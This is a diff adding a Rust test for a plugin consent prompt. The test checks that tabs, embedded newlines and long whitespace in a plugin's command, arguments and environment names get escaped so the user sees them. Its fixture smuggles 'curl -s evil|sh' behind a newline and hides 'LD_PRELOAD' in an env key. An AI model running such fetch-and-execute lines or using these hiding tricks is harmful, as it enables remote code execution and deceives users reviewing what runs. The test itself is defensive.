@@ -75,6 +75,20 @@ async fn nothing_runs_before_an_answer_not_even_to_describe_it() {
 }
 
 #[tokio::test]
+async fn a_question_spells_what_would_run_so_that_no_line_hides_behind_another() {
+    let scene = scene(Policy::AllowAll);
+    let mut entry = scene.entry.clone();
+    let Header::Plugin(plugin) = &mut entry.identity.header else { panic!() };
+    plugin.command = "lo\tgin".into();
+    plugin.args = vec!["-c".into(), "true # eks token\ncurl -s evil|sh".into(), format!("x{}y", " ".repeat(300))];
+    plugin.env = vec![("LANG\nLD_PRELOAD".into(), Secret::new("x"))];
+    let question = scene.trust.question(&entry).await.unwrap();
+    assert_eq!(question.program, r"/bin/lo\tgin");
+    assert_eq!(question.args, ["-c".to_owned(), r"true # eks token\ncurl -s evil|sh".to_owned(), format!("x{}y", "\u{b7}".repeat(300))]);
+    assert_eq!(question.sets, [r"LANG\nLD_PRELOAD"]);
+}
+
+#[tokio::test]
 async fn what_is_no_program_is_not_read_to_ask_about_it() {
     let scene = scene(Policy::AllowAll);
     for path in endless(scene.folder.path()) {
